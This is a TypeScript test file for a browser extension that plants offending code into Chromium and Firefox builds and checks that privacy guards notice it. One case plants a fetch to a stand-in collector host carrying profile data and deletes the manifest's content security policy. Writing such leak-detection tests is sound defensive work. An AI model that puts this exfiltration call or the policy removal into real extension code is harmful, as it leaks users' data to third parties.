import { afterEach, describe, expect, it } from 'vitest';
import { onboard, readOnClick } from './harness/beckon.ts';
import { launchChromium } from './harness/chromium.ts';
import { type Driver, pollUntil } from './harness/driver.ts';
import { launchFirefox } from './harness/firefox.ts';
import { type Plant, plant } from './harness/plant.ts';
import { ADDRESS, sampleSite } from './harness/sample-site.ts';
import { prepareSpy, spied, startSpy } from './harness/spy.ts';

/** Builds that break a promise must be noticed by the very checks that guard it. */
describe.each([
  ['chromium', launchChromium, '.output/chrome-mv3'],
  ['firefox', launchFirefox, '.output/firefox-mv3'],
] as const)('a planted build in %s', (_, launch, build) => {
  let driver: Driver | null = null;
  afterEach(() => driver?.close());

  const noticed = async (planted: Plant): Promise<readonly string[]> => {
    driver = await launch({ build: plant(build, planted), site: sampleSite });
    await onboard(driver);
    const observer = await driver.openExtension('dashboard.html#/data');
    const page = await driver.open(ADDRESS.profile, prepareSpy);
    await startSpy(page);
    await readOnClick(driver, observer, page);
    return spied(page);
  };

  it('that posts a message into the page is noticed', async () => {
    const seen = await noticed({ file: 'reader-linkedin.js', code: "window.postMessage('beckon', '*')" });
    expect(seen.join()).toContain('event message');
  });

  it('that sets an attribute is noticed', async () => {
    const seen = await noticed({
      file: 'reader-linkedin.js',
      code: "document.documentElement.setAttribute('data-beckon', '1')",
    });
    expect(seen.join()).toContain('mutation attributes data-beckon');
  });

  it('that fetches once its policy is taken away is noticed', async () => {
    await noticed({
      file: 'background.js',
      code: "fetch('https://collector.example/?profile')",
      manifest: (m) => {
        delete m.content_security_policy;
      },
    });
    await pollUntil('the request', async () => driver?.leaks.some((l) => l.includes('collector.example')));
  });
});
